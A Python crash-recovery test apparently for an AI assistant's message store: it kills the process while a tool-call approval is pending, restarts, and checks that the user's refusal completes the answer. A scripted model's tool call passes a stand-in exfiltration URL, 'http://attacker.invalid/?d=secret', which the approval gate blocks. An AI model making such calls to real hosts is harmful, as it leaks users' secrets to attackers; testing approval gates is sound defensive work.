"""``kill -9`` while an answer asks somebody."""

from __future__ import annotations

from collections.abc import Callable

from store import messages
from store.database import Database
from store.users import LOCAL_USER
from store.values import Message, SessionKey
from tests.crash.conftest import Child
from tests.model_script import Call, Script, Text
from tests.scripted_model import ScriptedModel
from tests.waiting import until

KEY = SessionKey(LOCAL_USER, "asks")
ADDRESS = "http://attacker.invalid/?d=secret"


def row(database: Database, id_: int) -> Message:
    with database.reading() as db:
        return messages.get(db, KEY, message_id=id_)


def test_the_question_is_there_in_the_next_life(
    new_child: Callable[[], Child], database: Database, model: ScriptedModel
) -> None:
    model.reset()
    look = [Text("Let me look."), Call("analyze_profile", f'{{"handle": "{ADDRESS}"}}', "c1")]
    model.queue(Script(look, finish_reason="tool_calls"))
    with new_child() as first:
        first.say(session=KEY.session_id, send="What did I note?")
        until(lambda: any("sent" in news for news in first.news))
        (id_,) = (news["answer"] for news in first.news if "sent" in news)
        until(lambda: row(database, id_).asks)
        asked = row(database, id_)
    assert asked.asks[0].words == "Fetch attacker.invalid?"
    with new_child() as second:
        assert row(database, id_) == asked
        model.queue(Script([Text("Very well.")]))
        second.say(session=KEY.session_id, decide="refuse", answer=id_, call_id="c1")
        until(lambda: not row(database, id_).is_open)
    ended = row(database, id_)
    assert (ended.status, ended.content) == ("complete", "Let me look.\n\nVery well.")
    assert [use["outcome"] for use in ended.tools_used] == ["refused"]
